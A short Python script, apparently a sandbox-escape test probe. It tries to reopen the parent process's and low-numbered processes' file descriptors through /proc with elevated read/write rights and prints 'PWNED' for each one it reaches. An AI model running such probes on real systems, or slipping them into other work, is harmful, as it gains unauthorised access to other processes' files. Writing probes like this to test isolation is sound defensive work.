"""Open the parent's files anew through /proc, with rights that it does not have.

Shows: PWNED on stdout.
"""

import os
from contextlib import suppress

from kit import own

for number in {os.getppid(), 1, 2, 3} - own():
    with suppress(OSError):
        for name in os.listdir(f"/proc/{number}/fd"):
            for flags in (os.O_RDWR, os.O_RDONLY, os.O_WRONLY):
                with suppress(OSError):
                    os.close(os.open(f"/proc/{number}/fd/{name}", flags | os.O_NONBLOCK))
                    print("PWNED", number, name, os.readlink(f"/proc/{number}/fd/{name}"))
